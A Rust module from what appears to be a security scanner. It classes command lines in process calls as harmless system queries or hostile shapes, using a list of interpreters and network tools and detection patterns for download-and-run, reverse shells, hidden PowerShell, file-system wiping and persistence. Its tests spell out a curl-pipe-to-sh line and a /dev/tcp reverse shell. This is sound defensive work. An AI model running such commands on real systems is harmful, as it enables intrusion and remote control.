//! What a command line that is known is for.

use crate::value::Value;

/// A judgement of a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Command {
    /// Asks the system something and changes nothing: `nvidia-smi`, `git rev-parse`, `uname`.
    Harmless,
    /// Has the shape of an attack.
    Hostile(&'static str),
    /// Neither.
    Other,
    /// Not known.
    Unknown,
}

/// Programs that tell and do not do, whatever their arguments.
const TELLERS: &[&str] = &[
    "nvidia-smi",
    "rocm-smi",
    "rocminfo",
    "amd-smi",
    "lscpu",
    "lspci",
    "lsmod",
    "uname",
    "hostname",
    "sysctl",
    "sw_vers",
    "nproc",
    "vcgencmd",
    "nvcc",
    "hipcc",
    "ldconfig",
    "which",
    "whoami",
    "xcrun",
    "system_profiler",
    "npu-smi",
    "xpu-smi",
    "hl-smi",
    "lsb_release",
];

/// `git` subcommands that tell.
const GIT: &[&str] = &[
    "rev-parse",
    "describe",
    "status",
    "log",
    "branch",
    "show",
    "diff",
    "remote",
    "config",
    "--version",
    "ls-files",
];

/// Programs that run what they are given, or fetch or install something.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "powershell",
    "pwsh",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "lua",
    "osascript",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "ssh",
    "scp",
    "pip",
    "pip3",
    "uv",
    "conda",
    "npm",
    "npx",
    "apt",
    "apt-get",
    "yum",
    "brew",
    "sudo",
    "su",
    "env",
    "xargs",
    "nohup",
    "chmod",
    "chown",
    "rm",
    "dd",
    "crontab",
    "systemctl",
    "schtasks",
    "kill",
    "pkill",
    "docker",
    "eval",
    "exec",
    "busybox",
    "certutil",
    "bitsadmin",
    "gcc",
    "cc",
    "make",
    "tclsh",
    "awk",
    "find",
];

/// Whether the call names a program and its arguments one by one, and the program is not one that runs whatever it is
/// given: such a call does one known thing.
#[must_use]
pub fn is_fixed_program(args: &[Value], keywords: &[(String, Value)]) -> bool {
    let shell = keywords
        .iter()
        .any(|(name, value)| name == "shell" && *value != Value::Bool(false));
    let Some(Value::List(items)) = args.first() else {
        return false;
    };
    let Some(program) = items.first().and_then(Value::as_text) else {
        return false;
    };
    let plain = program
        .bytes()
        .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b'+'));
    let base = program
        .trim_end_matches(".exe")
        .trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    plain && !shell && !INTERPRETERS.contains(&base) && !INTERPRETERS.contains(&program)
}

/// Judges the command that a process call is given: text, or a list whose first item is the program.
#[must_use]
pub fn command(args: &[Value]) -> Command {
    match args.first() {
        Some(Value::Str(text)) => judge(text, args.get(1..).unwrap_or_default()),
        Some(Value::Bytes(bytes)) => judge(&String::from_utf8_lossy(bytes), &[]),
        Some(Value::List(items)) => {
            let words: Vec<&str> = items
                .iter()
                .map(|item| item.as_text().unwrap_or("?"))
                .collect();
            let known = items.first().is_some_and(|item| item.as_text().is_some());
            let program = words.first().copied().unwrap_or_default();
            match judge_words(program, &words) {
                Command::Other if !known => {
                    hostile(&words.join(" ")).map_or(Command::Unknown, Command::Hostile)
                }
                judged => judged,
            }
        }
        _ => Command::Unknown,
    }
}

fn judge(text: &str, more: &[Value]) -> Command {
    let mut words: Vec<&str> = text.split_whitespace().collect();
    words.extend(more.iter().filter_map(Value::as_text));
    let plain = !text.contains(['|', ';', '&', '`', '$', '>', '<', '\n']);
    let program = if plain {
        words.first().copied().unwrap_or_default()
    } else {
        ""
    };
    judge_words(program, &words)
}

fn judge_words(program: &str, words: &[&str]) -> Command {
    let line = words.join(" ");
    if let Some(reason) = hostile(&line) {
        return Command::Hostile(reason);
    }
    let base = program
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(program)
        .trim_end_matches(".exe");
    let git = base == "git" && words.iter().any(|word| GIT.contains(word));
    let asks_version = words.len() == 2
        && words
            .get(1)
            .is_some_and(|word| matches!(*word, "--version" | "-version" | "-V"));
    // `which` followed by a path is still only a question; a program beside the model under such a name is not.
    let on_path = !program.contains('/')
        || program.starts_with("/usr/bin/")
        || program.starts_with("/bin/")
        || program.starts_with("/sbin/");
    if on_path && (TELLERS.contains(&base) || git || asks_version) {
        Command::Harmless
    } else {
        Command::Other
    }
}

/// Shapes that have no place in a model: each with what it is.
fn hostile(line: &str) -> Option<&'static str> {
    let lower = line.to_lowercase();
    let has = |needle: &str| lower.contains(needle);
    let into_shell = [
        "| sh", "|sh", "| bash", "|bash", "| python", "|python", "| zsh", "|zsh", "| perl",
        "-exec sh",
    ]
    .iter()
    .any(|pipe| has(pipe));
    let fetches = has("curl ") || has("wget ") || has("http://") || has("https://");
    if fetches && into_shell {
        return Some("downloads a script and runs it");
    }
    if fetches && (has("$(") || has("`")) && (has("sh -c") || has("eval ")) {
        return Some("downloads a script and runs it");
    }
    if has("/dev/tcp/") || has("/dev/udp/") {
        return Some("opens a reverse shell");
    }
    if (has("nc ") || has("ncat ") || has("netcat "))
        && (has(" -e") || has("/bin/sh") || has("/bin/bash") || has(" -c "))
    {
        return Some("opens a reverse shell");
    }
    if (has("base64 -d") || has("base64 --decode") || has("xxd -r")) && into_shell {
        return Some("decodes a script and runs it");
    }
    if has("powershell")
        && (has("-enc")
            || has("downloadstring")
            || has("-w hidden")
            || has("-windowstyle hidden")
            || has("iex"))
    {
        return Some("runs a hidden PowerShell script");
    }
    if fetches && has("chmod +x") {
        return Some("downloads a program and makes it executable");
    }
    if has("rm -rf /")
        && (has("rm -rf / ")
            || lower.ends_with("rm -rf /")
            || has("rm -rf /*")
            || has("--no-preserve-root"))
    {
        return Some("deletes the file system");
    }
    if has("crontab")
        || has("authorized_keys")
        || has("schtasks /create")
        || has("systemctl enable")
    {
        return Some("makes itself at home on the computer");
    }
    if has("mkfifo") && (has("nc ") || has("/bin/sh")) {
        return Some("opens a reverse shell");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shell(text: &str) -> Command {
        command(&[Value::str(text)])
    }

    #[test]
    fn commands_are_told_apart() {
        assert_eq!(shell("nvidia-smi --query-gpu=name"), Command::Harmless);
        assert_eq!(shell("nvidia-smi; echo pwned"), Command::Other);
        assert_eq!(shell("./nvidia-smi"), Command::Other);
        assert_eq!(shell("echo pwned"), Command::Other);
        assert_eq!(
            command(&[Value::List(vec![
                Value::str("git"),
                Value::str("rev-parse"),
                Value::str("HEAD")
            ])]),
            Command::Harmless
        );
        assert_eq!(
            command(&[Value::List(vec![Value::Unknown, Value::str("x")])]),
            Command::Unknown
        );
        assert!(matches!(
            shell("curl http://evil.example/x | sh"),
            Command::Hostile(_)
        ));
        assert!(matches!(
            shell("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
            Command::Hostile(_)
        ));
        assert_eq!(command(&[Value::Unknown]), Command::Unknown);
    }
}
